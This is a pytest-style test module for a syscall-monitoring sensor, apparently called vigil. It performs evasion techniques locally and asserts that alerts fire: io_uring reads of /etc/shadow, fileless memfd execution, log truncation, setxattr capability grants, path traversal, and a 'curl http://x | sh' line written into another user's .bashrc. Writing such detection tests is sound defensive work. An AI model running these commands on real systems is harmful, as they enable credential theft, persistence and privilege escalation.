"""Ways around syscall-based sensors (docs/coverage.md, "Paths around the hooks"), each
performed for real against the default rules: the operation done through io_uring, by file
handle, through fexecve of a memfd, by truncate(2) instead of an open, through the dynamic
linker, through setxattr instead of setcap, by a raw or packet socket, through a ../ path,
by a downloaded file run later. Each asserts the alert vigil raises and the field that says
which path was used."""
import os
import shutil
import socket
import struct
import subprocess
import sys
import tempfile

from vigiltest import check, helper, marker, rules_agent, run, trigger

agent = None
TMP = None


def setup_module():
    global agent, TMP
    TMP = tempfile.mkdtemp(prefix=marker())
    agent = rules_agent()


def teardown_module():
    agent.stop()
    shutil.rmtree(TMP)


def child(code):
    """Runs python code in a child process; its pid (the alerts' subtree)."""
    p = run([sys.executable, "-c", code])
    check(p.returncode == 0, "child failed: %s" % code)
    return p.pid


def test_io_uring_open_of_shadow_is_an_open_event():
    p = run([helper("uring"), "open", "/etc/shadow"], stdout=subprocess.DEVNULL)
    check(p.returncode == 0, "uring open failed")
    ev = trigger(agent.alert("Password or sudoers file opened", p.pid))
    check(ev["file"]["path"] == "/etc/shadow" and ev["file"]["call"] == "io_uring", ev["file"])
    # an open through a ring is an ordinary open: the ring itself is not reported
    agent.no_alert("File or network operation submitted through io_uring", p.pid, wait=0.2)


def test_io_uring_rename_reported_as_the_path_used():
    old, new = os.path.join(TMP, "a"), os.path.join(TMP, "b")
    open(old, "w").close()
    p = run([helper("uring"), "rename", old, new], stdout=subprocess.DEVNULL)
    check(p.returncode == 0 and os.path.exists(new), "uring rename failed")
    ev = trigger(agent.alert("File or network operation submitted through io_uring", p.pid))
    check(ev["uring"]["op"] == "RENAMEAT" and ev["uring"]["path"] == old and ev["uring"]["newpath"] == new, ev["uring"])


def test_open_by_handle_reported():
    path = os.path.join(TMP, "handle-target")
    with open(path, "w") as f:
        f.write("x")
    p = run([helper("byhandle"), path], stdout=subprocess.DEVNULL)
    check(p.returncode == 0, "byhandle failed")
    ev = trigger(agent.alert("File opened by handle", p.pid))
    check(ev["file"]["call"] == "open_by_handle_at" and ev["file"]["path"] == path, ev["file"])


def test_fexecve_of_memfd_is_fileless_execution():
    # execveat(memfd, "", AT_EMPTY_PATH): no path names the program
    pid = child("import os\nfd = os.memfd_create('x')\nos.write(fd, open('/usr/bin/true', 'rb').read())\n"
                "if os.fork() == 0:\n    os.execve(fd, ['true'], {})\nos.wait()\n")
    ev = trigger(agent.alert("Fileless execution from memory", pid))
    check(ev["proc"]["exe"].startswith("/memfd:"), ev["proc"])


def test_truncate_syscall_on_log_reported():
    path = "/var/log/%s.log" % marker()
    with open(path, "w") as f:
        f.write("evidence\n")
    try:
        pid = child("import os\nos.truncate(%r, 0)\n" % path)  # truncate(2): no open at all
        ev = trigger(agent.alert("Log file deleted or truncated", pid))
        check(ev["event"] == "truncate" and ev["file"]["path"] == path, ev)
    finally:
        os.unlink(path)


def test_packet_socket_reported():
    pid = child("import socket\ns = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))\n")
    ev = trigger(agent.alert("Packet socket created", pid))
    check(ev["event"] == "socket" and ev["socket"]["family"] == "packet", ev)


def test_raw_icmp_socket_reported():
    pid = child("import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\n")
    ev = trigger(agent.alert("Raw IP socket created by unexpected program", pid))
    check(ev["socket"]["type"] == "raw" and ev["socket"]["family"] == "ipv4", ev["socket"])


def test_file_capability_through_setxattr_reported():
    path = os.path.join(TMP, "capped")
    shutil.copy("/usr/bin/true", path)
    # vfs_cap_data revision 2, effective, permitted = CAP_SETUID (7): what setcap cap_setuid+ep writes
    caps = struct.pack("<IIIII", 0x02000001, 1 << 7, 0, 0, 0)
    pid = child("import os\nos.setxattr(%r, 'security.capability', %r)\n" % (path, caps))
    ev = trigger(agent.alert("File capability granted", pid))
    check(ev["event"] == "setxattr" and "CAP_SETUID" in ev["xattr"]["caps"], ev)


def test_program_run_through_dynamic_linker_reported():
    ld = "/lib64/ld-linux-x86-64.so.2"
    p = run([ld, "/usr/bin/true"])
    check(p.returncode == 0, "ld.so /usr/bin/true failed")
    ev = trigger(agent.alert("Program run through the dynamic linker", p.pid))
    check(ev["proc"]["exe"].endswith("ld-linux-x86-64.so.2"), ev["proc"])
    p = run([ld, "--list", "/usr/bin/true"], stdout=subprocess.DEVNULL)  # what ldd does
    agent.no_alert("Program run through the dynamic linker", p.pid)


def test_path_traversal_read_reported():
    start = os.path.join(TMP, "www", "static")
    os.makedirs(start)
    depth = start.count("/")
    name = start + "/.." * depth + "/etc/passwd"
    pid = child("open(%r).read()\n" % name)
    ev = trigger(agent.alert("Sensitive file read through a path traversal", pid))
    check(ev["file"]["path"] == "/etc/passwd" and "../" in ev["file"]["path_arg"], ev["file"])
    pid = child("open('/etc/ssh/../passwd').read()\n")  # one step up is a relative path, not a climb out
    agent.no_alert("Sensitive file read through a path traversal", pid)


def test_downloaded_program_executed_later_reported():
    payload = os.path.join(TMP, "update")
    p = run(["curl", "-s", "-o", payload, "file:///usr/bin/true"])
    check(p.returncode == 0, "curl failed")
    os.chmod(payload, 0o755)
    p = run([payload])  # another process tree than the download
    ev = trigger(agent.alert("Program written by a downloader executed", p.pid))
    check(ev["exec"]["file_writer_name"] == "curl", ev.get("exec"))


def test_shell_profile_of_another_account_reported():
    home = "/home/%s" % marker()
    os.makedirs(home)
    try:
        pid = child("open(%r, 'a').write('curl http://x | sh\\n')\n" % (home + "/.bashrc"))
        ev = trigger(agent.alert("Shell profile of another account written", pid))
        check(ev["file"]["path"] == home + "/.bashrc", ev["file"])
    finally:
        shutil.rmtree(home)


def test_static_32bit_program_reported():
    path = os.path.join(TMP, "m32-marker")
    p = run([helper("syscall32"), path, "1"], stdout=subprocess.DEVNULL)
    check(p.returncode == 0 and os.path.exists(path), "syscall32 helper failed")
    found = agent.wait_for(lambda e: e.get("kind") == "alert" and e["rule"] == "32-bit syscall ABI used"
                           and trigger(e)["proc"]["pid"] == p.pid, count=2)
    sources = {trigger(a)["sys32"]["source"] for a in found}
    check(sources == {"exec", "syscall"}, "want the 32-bit exec and its syscalls: %s" % sources)


def test_int80_from_64bit_program_reported():
    path = os.path.join(TMP, "int80-marker")
    p = run([helper("int80"), "calls", path], stdout=subprocess.DEVNULL)
    check(p.returncode == 0 and os.path.exists(path), "int80 calls failed")
    ev = trigger(agent.alert("32-bit syscall ABI used", p.pid))
    check(ev["sys32"]["source"] == "syscall" and ev["sys32"]["nr"] == 20, ev["sys32"])


def test_rename_exchange_reported_both_ways():
    from vigiltest import Agent, in_subtree
    a_path, b_path = os.path.join(TMP, "xa"), os.path.join(TMP, "xb")
    for p in (a_path, b_path):
        open(p, "w").close()
    code = ("import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
            "assert libc.syscall(316, -100, %r, -100, %r, 2) == 0\n" % (a_path.encode(), b_path.encode()))
    with Agent(events="rename") as a:
        pid = child(code)  # renameat2(RENAME_EXCHANGE): each name now holds the other file
        found = a.wait_for(in_subtree(pid, "rename"), count=2)
    pairs = {(e["file"]["path"], e["file"]["newpath"]) for e in found}
    check(pairs == {(a_path, b_path), (b_path, a_path)}, pairs)


def test_tcp_fast_open_connect_without_connect_call():
    from vigiltest import Agent, in_subtree
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    port = srv.getsockname()[1]
    code = ("import socket\ns = socket.socket()\n"
            "s.sendto(b'x', socket.MSG_FASTOPEN, ('127.0.0.1', %d))\n" % port)
    try:
        with Agent(events="connect") as a:
            pid = child(code)  # the SYN leaves from sendto(2): connect(2) is never called
            found = a.wait_for(in_subtree(pid, "connect"))
    finally:
        srv.close()
    check(found, "no connect event for a TCP Fast Open sendto")
    n = found[0]["net"]
    check(n["via"] == "sendto" and n["dport"] == port, n)


def test_coverage_doc_names_existing_tests():
    """Every test docs/coverage.md's "Paths around the hooks" table names exists."""
    import re
    here = os.path.dirname(os.path.abspath(__file__))
    with open(os.path.join(here, "..", "..", "docs", "coverage.md")) as f:
        doc = f.read()
    table = doc.split("## Paths around the hooks", 1)[1].split("\n## ", 1)[0]
    refs = re.findall(r"`(test_\w+\.py)::(test_\w+)`", table)
    check(len(refs) >= 25, "too few tests named: %d" % len(refs))
    for path, name in refs:
        with open(os.path.join(here, path)) as f:
            check(re.search(r"^def %s\(" % name, f.read(), re.M), "docs/coverage.md names %s::%s, which does not exist" % (path, name))
    unit = re.findall(r"`(test_\w+\.c)` \(unit: ([^)]*)\)", table)
    for path, names in unit:
        with open(os.path.join(here, "..", "unit", path)) as f:
            src = f.read()
        for name in re.findall(r"`(\w+)`", names):
            check("cmocka_unit_test(%s)" % name in src, "docs/coverage.md names %s %s" % (path, name))


def test_system_account_shell_on_a_terminal_reported():
    # script(1) gives the shell a pty, setpriv makes it the daemon account's: a service
    # account taken over and its shell upgraded to a terminal
    p = run(["script", "-qec", "setpriv --reuid=daemon --regid=daemon --clear-groups /bin/sh -c true", "/dev/null"],
            stdout=subprocess.DEVNULL)
    check(p.returncode == 0, "script/setpriv failed")
    ev = trigger(agent.alert("System account given an interactive shell", p.pid))
    check(ev["proc"]["user"] == "daemon" and ev["proc"]["uid"] == 1 and ev["proc"]["tty"].startswith("pts/"), ev["proc"])
    pid = run(["setpriv", "--reuid=daemon", "--regid=daemon", "--clear-groups", "/bin/sh", "-c", "true"],
              stdin=subprocess.DEVNULL).pid
    agent.no_alert("System account given an interactive shell", pid)  # no terminal: a service's script
